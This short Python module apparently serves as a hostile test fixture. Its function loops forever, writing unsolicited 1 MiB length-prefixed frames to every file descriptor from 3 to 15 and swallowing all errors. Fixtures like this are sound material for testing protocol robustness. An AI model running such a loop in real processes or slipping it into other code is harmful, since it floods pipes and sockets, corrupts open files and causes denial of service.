"""Sends frames that nobody has asked for."""

import os
import struct

FRAME = struct.pack("<Q", 1 << 20) + b"T" * (1 << 20)


def receptive_field(*arguments):
    while True:
        for number in range(3, 16):
            try:
                os.write(number, FRAME)
            except OSError:
                pass
